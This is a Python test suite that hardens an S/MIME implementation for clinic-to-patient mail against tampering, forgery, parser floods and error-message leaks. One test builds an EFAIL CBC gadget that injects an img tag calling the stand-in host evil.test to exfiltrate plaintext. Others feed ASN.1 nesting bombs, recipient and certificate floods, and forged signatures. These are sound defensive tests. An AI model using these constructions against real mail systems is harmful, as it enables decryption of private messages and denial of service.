"""S/MIME against those who change, wrap, forge, flood and probe (BI-060, 067, 068, 070, 071, 074, 075, 080; HS-38)."""

import base64
import itertools
import time
from collections.abc import Callable

import msgspec
import pytest
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from hypothesis import given, settings
from hypothesis import strategies as st

from carepost.crypto.smime import chain, der, envelope, enveloped, message, oids, opening, reader, verifying
from carepost.crypto.smime.envelope import Recipient
from carepost.crypto.smime.enveloped import Envelope, Transport
from carepost.crypto.smime.errors import CannotOpen, Malformed, SmimeError
from carepost.crypto.smime.signing import Signer
from carepost.rfc import message as rfc_message
from tests.support.smime import DAY, MESSAGE, NOW, Authority

CA = Authority()
TRUST = CA.trust()
NURSE, PAT = CA.issue("ec-p256"), CA.issue("rsa-2048", "pat@home.test")
RECIPIENT = Recipient(PAT.certificate)
HEAD = (
    b"From: Nurse Example <nurse@clinic.test>\r\nTo: pat@home.test\r\nSubject: [...]\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\n"
)


def rebuilt(found: Envelope, vector: bytes, sealed: bytes) -> bytes:
    """The message with another vector and ciphertext, its recipients as they were."""
    (info,) = found.infos
    assert isinstance(info, Transport)
    key = der.sequence(
        der.integer(0), info.who, der.sequence(der.tlv(der.OID, info.algorithm), info.parameters),
        der.tlv(der.OCTETS, info.sealed),
    )  # fmt: skip
    cipher = der.sequence(der.tlv(der.OID, found.cipher), der.tlv(der.OCTETS, vector))
    content = der.sequence(der.tlv(der.OID, oids.DATA), cipher, der.tlv(0x80, sealed))
    data = der.sequence(der.integer(0), der.tlv(der.SET, key), content)
    return der.sequence(der.tlv(der.OID, oids.ENVELOPED_DATA), der.tlv(0xA0, data))


def outside(raw: bytes) -> bytes:
    return HEAD + message.base64(raw)


def opened(raw: bytes) -> opening.Opened:
    return opening.open_(outside(raw), [PAT], TRUST, NOW)


#: the first block of what is inside is known to anyone: header protection begins with the From field
PAYLOAD = message._split(MESSAGE * 1 + b"The canary sings. " * 20 + b"\r\n", encrypted=True).payload
CBC = enveloped.read(envelope.encrypt(PAYLOAD, [RECIPIENT], gcm=False))
VECTOR = der.parse(CBC.parameters, lambda c: c.octets())


def test_the_message_rebuilt_as_it_was_opens() -> None:
    assert b"The canary sings." in opened(rebuilt(CBC, VECTOR, CBC.sealed)).message


def exor(*blocks: bytes) -> bytes:
    out = bytes(16)
    for block in blocks:
        out = bytes(a ^ b for a, b in zip(out, block, strict=True))
    return out


@pytest.mark.parametrize("blocks", [1, 2, 6, 20])
def test_bi_068_a_cbc_gadget_sends_nothing_out(blocks: int) -> None:
    """EFAIL: with one known block of plaintext anybody writes blocks of his own; each leaves one of noise before it."""
    known, first = PAYLOAD[:16], CBC.sealed[:16]
    wanted = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/' + b"x" * 16 * blocks
    pieces = [wanted[at : at + 16].ljust(16) for at in range(0, 16 * blocks, 16)]
    vector, *rest = [exor(VECTOR, known, piece) for piece in pieces]
    crafted = first + b"".join(link + first for link in rest) + CBC.sealed
    with pytest.raises(CannotOpen):
        opened(rebuilt(CBC, vector, crafted))


@settings(max_examples=150, deadline=None)
@given(st.integers(min_value=0, max_value=len(CBC.sealed) - 17), st.integers(min_value=1, max_value=255))
def test_bi_068_a_changed_octet_of_cbc_stays_closed(at: int, by: int) -> None:
    changed = CBC.sealed[:at] + bytes((CBC.sealed[at] ^ by,)) + CBC.sealed[at + 1 :]
    with pytest.raises(CannotOpen):
        opened(rebuilt(CBC, VECTOR, changed))


@pytest.mark.parametrize(
    "change",
    [
        lambda s: s[:-16], lambda s: s[16:], lambda s: s[:32] + s[16:], lambda s: s[16:32] + s[:16] + s[32:],
        lambda s: s[:16], lambda s: s + s, lambda s: bytes(len(s)),
    ],
    ids=["cut", "headless", "repeated", "swapped", "one block", "doubled", "zeros"],
)  # fmt: skip
def test_bi_068_blocks_cut_moved_or_repeated_stay_closed(change: Callable[[bytes], bytes]) -> None:
    with pytest.raises(CannotOpen):
        opened(rebuilt(CBC, VECTOR, change(CBC.sealed)))


def test_bi_068_a_signature_inside_that_no_longer_holds_keeps_it_closed() -> None:
    """Only the vector is changed, which leaves no noise behind: the signature is what notices."""
    payload = message.clear_signed(PAYLOAD, Signer(NURSE), NOW)
    sealed = enveloped.read(envelope.encrypt(payload, [RECIPIENT], gcm=False))
    raw = payload.replace(b"The canary sings", b"The canary sinks", 1)
    with pytest.raises(CannotOpen):
        opened(envelope.encrypt(raw, [RECIPIENT], gcm=False))
    assert opened(rebuilt(sealed, der.parse(sealed.parameters, lambda c: c.octets()), sealed.sealed)).verdict.valid


def test_bi_080_the_same_error_for_every_failure_after_the_key() -> None:
    """Bad padding of the key, a key of the wrong length, bad padding of the content, noise, no header, bad MIME inside,
    a broken structure inside: one code, one sentence, no detail."""
    key = PAT.key.public_key()
    assert isinstance(key, rsa.RSAPublicKey)
    (info,) = CBC.infos
    inner = [
        b"\x00\x01 noise", b"no header at all", b"From: a@b.test\r\nFrom: c@d.test\r\n" + PAYLOAD,
        b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n",
        b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\nno parts\r\n",
        b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n!!\r\n",
    ]  # fmt: skip
    raws = [envelope.encrypt(one, [RECIPIENT], gcm=gcm) for one in inner for gcm in (False, True)]
    for wrong in (bytes(255) + b"\1", key.encrypt(bytes(16), padding.PKCS1v15()), b"\xff" * 256):
        raws.append(rebuilt(msgspec.structs.replace(CBC, infos=(_with(info, wrong),)), VECTOR, CBC.sealed))
    said = set()
    for raw in raws:
        with pytest.raises(SmimeError) as caught:
            opened(raw)
        said.add((type(caught.value), caught.value.code, caught.value.public, caught.value.detail))
    # the noise in GCM is content its sender wrote, and no message: the same error all the same
    assert said == {(CannotOpen, "cannot-open", "The message could not be decrypted.", "")}


def _with(info: object, sealed: bytes) -> Transport:
    assert isinstance(info, Transport)
    return msgspec.structs.replace(info, sealed=sealed)


def test_bi_080_a_key_that_does_not_open_takes_the_same_way(monkeypatch: pytest.MonkeyPatch) -> None:
    """The content is decrypted with a random key, so neither time nor path tells which of the two was wrong."""
    taken: list[int] = []
    inner = reader._content

    def counted(found: Envelope, key: bytes, vector: bytes, tag_size: int) -> bytes | None:
        taken.append(len(key))
        return inner(found, key, vector, tag_size)

    monkeypatch.setattr(reader, "_content", counted)
    (info,) = CBC.infos
    key = PAT.key.public_key()
    assert isinstance(key, rsa.RSAPublicKey)
    for wrong in (bytes(256), key.encrypt(bytes(7), padding.PKCS1v15())):
        with pytest.raises(CannotOpen):
            reader.open_(msgspec.structs.replace(CBC, infos=(_with(info, wrong),)), [PAT])
    reader.open_(CBC, [PAT])
    assert taken == [32, 32, 32]


def test_bi_075_and_9788_no_word_a_person_wrote_stands_outside() -> None:
    canary = b"Zebrafinch"
    raw = (
        b'From: "Zebrafinch Ward" <nurse@clinic.test>\r\nTo: "Zebrafinch One" <pat@home.test>\r\n'
        b"Reply-To: Zebrafinch <desk@clinic.test>\r\nSubject: Results of Zebrafinch\r\nThread-Topic: Zebrafinch\r\n"
        b"Comments: Zebrafinch\r\nKeywords: Zebrafinch\r\nX-Patient: Zebrafinch\r\nContent-Description: Zebrafinch\r\n"
        b'Content-Type: text/plain; name="Zebrafinch.txt"\r\nContent-Disposition: attachment; filename=Zebrafinch\r\n'
        b"Message-ID: <2@clinic.test>\r\nMIME-Version: 1.0 (Zebrafinch)\r\n\r\nZebrafinch\r\n"
    )
    for signer in (None, Signer(NURSE)):
        made = message.encrypt(raw, [RECIPIENT], NOW, signer=signer)
        assert canary not in made and base64.b64encode(canary) not in made
        assert b"\r\nSubject: [...]\r\n" in made and b"\r\nMessage-ID: <2@clinic.test>\r\n" in made
        found = opening.open_(made, [PAT], TRUST, NOW)
        assert found.message.count(canary) == raw.count(canary) - 1


def test_bi_060_an_opaque_message_inside_another_stays_what_it_is() -> None:
    made = message.encrypt(MESSAGE, [RECIPIENT], NOW)
    forwarded = HEAD.partition(b"Content-Type")[0] + b"Content-Type: message/rfc822\r\n\r\n" + made
    found = opening.open_(forwarded, [PAT], TRUST, NOW)
    assert found.layers == () and found.message == forwarded and not found.verdict.signed


def test_bi_060_a_partial_message_is_refused() -> None:
    raw = HEAD.partition(b"Content-Type")[0] + b"Content-Type: message/partial; id=a; number=1\r\n\r\nx\r\n"
    found = opening.open_(raw, [PAT], TRUST, NOW)
    assert found.layers == () and not found.verdict.signed


def test_a_message_described_twice_has_no_reading() -> None:
    """BI-054: one reader sees a signature, the other a text."""
    made = message.sign(MESSAGE, Signer(NURSE), NOW).replace(
        b"Content-Type: multipart", b"Content-Type: text/plain\r\nContent-Type: multipart", 1
    )
    with pytest.raises(Malformed):
        opening.open_(made, [], TRUST, NOW)


def test_a_structure_of_a_hundred_thousand_layers_is_refused_at_once() -> None:
    """BI-052's like for ASN.1."""
    for raw in (
        b"\x30\x80" * 100_000,
        b"\xa0\x80" * 500_000,
        b"\x30\x84\x7f\xff\xff\xff" * 10_000,
        b"\x24\x80" * 200_000,
    ):
        before = time.process_time()
        with pytest.raises(Malformed):
            opened(raw)
        assert time.process_time() - before < 5


def test_bi_070_a_flood_of_recipients_signers_and_certificates_is_refused() -> None:
    info = der.sequence(der.integer(0), der.sequence(), der.sequence(der.tlv(der.OID, oids.RSA)), der.tlv(der.OCTETS))
    many = der.sequence(
        der.tlv(der.OID, oids.ENVELOPED_DATA),
        der.tlv(0xA0, der.sequence(der.integer(0), der.tlv(der.SET, info * 50_000), der.sequence())),
    )
    signer = Signer(NURSE).sign(b"x", NOW, detached=False)
    found = verifying.read(signer)
    certificates = der.sequence(
        der.tlv(der.OID, oids.SIGNED_DATA),
        der.tlv(
            0xA0,
            der.sequence(
                der.integer(1), der.tlv(der.SET), der.sequence(der.tlv(der.OID, oids.DATA)),
                der.tlv(0xA0, found.certificates[0] * 51), der.tlv(der.SET),
            ),
        ),
    )  # fmt: skip
    for raw in (many, certificates):
        before = time.process_time()
        with pytest.raises(Malformed):
            opened(raw)
        assert time.process_time() - before < 2


def test_bi_070_a_mesh_of_authorities_is_not_walked_to_its_end() -> None:
    """Four for each of five steps, all of one key a step: a thousand ways to nowhere."""
    steps = [Authority(f"Step {i}") for i in range(6)]
    mesh = []
    for below, above in itertools.pairwise(steps):
        for number in range(4):
            end = NOW + (100 + number) * DAY
            mesh.append(Authority(f"Step {steps.index(below)}", above, key=below.key, end=end).der)
    leaf = steps[0].issue()
    before = time.process_time()
    found = chain.judge(leaf.certificate, mesh, TRUST.store, NOW, TRUST.evidence)
    assert found.fault == "unknown-issuer" and time.process_time() - before < 3


def test_bi_074_attributes_passed_off_as_the_content() -> None:
    """What was signed as attributes, shown as content of a signature without attributes (and so for any content)."""
    good = verifying.read(Signer(NURSE).sign(b"x", NOW, detached=False))
    forged = msgspec.structs.replace(good.signers[0], signed=b"", attributes=())
    report = verifying.check(msgspec.structs.replace(good, signers=(forged,)), good.signers[0].signed)[0]
    assert report.faults == ("no-signed-attributes",)


def test_bi_074_a_certificate_put_in_the_place_of_the_signers() -> None:
    """The same key certified for another address: SigningCertificateV2 tells them apart."""
    other = CA.issue("ec-p256", "chief@clinic.test", serial=NURSE.certificate.x509.serial_number)
    good = verifying.read(Signer(NURSE).sign(b"x", NOW))
    swapped = msgspec.structs.replace(good, certificates=(other.certificate.der,))
    assert verifying.check(swapped, b"x")[0].faults == ("wrong-certificate",)


def test_two_contents_one_shown_and_one_signed() -> None:
    """A detached signature that carries a content of its own."""
    whole = message.sign(MESSAGE, Signer(NURSE), NOW)
    carrying = message.base64(Signer(NURSE).sign(b"what was signed\r\n", NOW, detached=False))
    at = whole.index(b"\r\n\r\n", whole.index(b"smime.p7s")) + 4
    end = whole.index(b"--=_", at)
    found = opening.open_(whole[:at] + carrying + whole[end:], [], TRUST, NOW)
    assert found.verdict.reasons == ("malformed",) and not found.verdict.valid


def test_the_words_of_every_refusal_hold_nothing_of_the_message() -> None:
    for made in (message.encrypt(MESSAGE, [RECIPIENT], NOW), message.sign(MESSAGE, Signer(NURSE), NOW, opaque=True)):
        for at in range(0, len(made), 97):
            try:
                found = opening.open_(made[:at] + b"#" + made[at + 1 :], [PAT], TRUST, NOW)
                said = repr(found)
                rfc_message.read(found.message)
            except SmimeError as error:
                said = f"{error} {error.public} {error.detail} {error!r}"
            assert "canary" not in said.lower()
